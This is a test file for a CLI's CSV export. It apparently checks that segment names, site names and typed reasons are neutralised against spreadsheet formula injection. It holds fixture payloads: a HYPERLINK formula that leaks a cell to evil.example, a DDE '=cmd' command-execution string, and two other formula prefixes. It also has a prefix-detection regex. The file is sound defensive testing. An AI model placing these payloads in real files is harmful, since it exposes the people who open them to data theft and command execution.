// Formula injection through the CLI's CSV tables: names from imported files
// (segment names, site names) and the analyst's typed reasons reach `cgm
// profile`, `gaps`, `strata` and `review --compare` as they were given. The CLI
// writes CSV with the exports' one writer, so a cell a spreadsheet would run as
// a formula starts with a single quote on stdout just as in `export csv`.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importSegments, importSites } from '../../electron/importers/index';
import { openProject } from '../../electron/store/project';
import { buildTown, centre, cgm, INDICATOR, parseCsv, SCHEME, SERVICE, type TownProject } from '../analysis-runs/fixture';

const LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const CALC = "=cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd';
const PLUS = '+1+cmd';

const bytes = (text: string) => new TextEncoder().encode(text);
const csvText = (s: string) => `"${s.replace(/"/g, '""')}"`;

let town: TownProject;
beforeAll(async () => {
  town = await buildTown();
  const project = openProject(town.path);
  try {
    // The fixture's scheme again, its names replaced by attacks (codes unchanged, so assignments still hold).
    const segments = `code,name,parent,level\n1,${csvText(PLUS)},,supergroup\n1a,${csvText(CALC)},1,group\n2,Urbanites,,supergroup\n2a,${csvText(AT)},2,group\n2b,Older Town Centres,2,group\n`;
    await importSegments(project, { name: 'segments.csv', data: bytes(segments) }, { scheme: SCHEME, codeField: 'code', nameField: 'name', parentField: 'parent', levelField: 'level' });
    const [lonA, latA] = centre('E00000001');
    const [lonB, latB] = centre('E00000003');
    const sites = `site_name,lat,lon,opening_hours\n${csvText(LINK)},${latA},${lonA},Mo-Fr 08:00-20:00\n${csvText(CALC)},${latB},${lonB},Mo-Fr 09:00-17:00\n`;
    // replace: these two become the service's only sites (an import adds to them otherwise).
    await importSites(project, { name: 'sites.csv', data: bytes(sites) }, { service: SERVICE, nameField: 'site_name', latField: 'lat', lonField: 'lon', hoursField: 'opening_hours', replace: true });
  } finally {
    project.close();
  }
});
afterAll(() => town.cleanup());

const base = () => ['--project', town.path, '--service', SERVICE];

/** Every cell of the table: none may start with =, +, -, @, tab or CR unless it is a plain number. */
function assertNoFormula(stdout: string, where: string): string[] {
  const cells = parseCsv(stdout).flatMap((r) => Object.values(r));
  for (const c of cells) expect(/^[=+\-@\t\r]/.test(c) && !/^[+-]?[\d.]+(e[+-]?\d+)?$/i.test(c), `${where}: ${c}`).toBe(false);
  return cells;
}

describe('CLI CSV tables neutralise formulas from names and reasons', () => {
  it('cgm profile: segment names', async () => {
    const r = await cgm('profile', ...base(), '--scheme', SCHEME, '--suppress', 'none');
    expect(r.code).toBe(0);
    const cells = assertNoFormula(r.stdout, 'profile');
    expect(cells).toContain(`'${CALC}`);
    expect(cells).toContain(`'${AT}`);
    // The header and plain numbers are untouched.
    expect(r.stdout.split('\n')[0]).toBe('segment_code,segment_name,users,users_pct,base,base_pct,penetration,index');
    expect(r.stdout).not.toContain('\uFEFF');
  });

  it('cgm gaps: nearest site names', async () => {
    const r = await cgm('gaps', ...base(), '--indicator', INDICATOR, '--suppress', 'none');
    expect(r.code).toBe(0);
    const cells = assertNoFormula(r.stdout, 'gaps');
    expect(cells).toContain(`'${LINK}`);
    expect(cells).toContain(`'${CALC}`);
  });

  it('cgm strata: the reason the analyst typed', async () => {
    const r = await cgm('strata', ...base(), '--indicator', INDICATOR, '--decide', 'E00000003=Basic', '--reason', CALC);
    expect(r.code).toBe(0);
    const cells = assertNoFormula(r.stdout, 'strata');
    expect(cells).toContain(`'${CALC}`);
  });

  it('cgm review --compare: segment names', async () => {
    const review = ['review', ...base(), '--indicator', INDICATOR, '--scheme', SCHEME];
    expect((await cgm(...review, '--save', 'before')).code).toBe(0);
    const r = await cgm(...review, '--compare', 'before');
    expect(r.code).toBe(0);
    const cells = assertNoFormula(r.stdout, 'review');
    expect(cells).toContain(`'${CALC}`);
    expect(cells).toContain(`'${AT}`);
  });
});
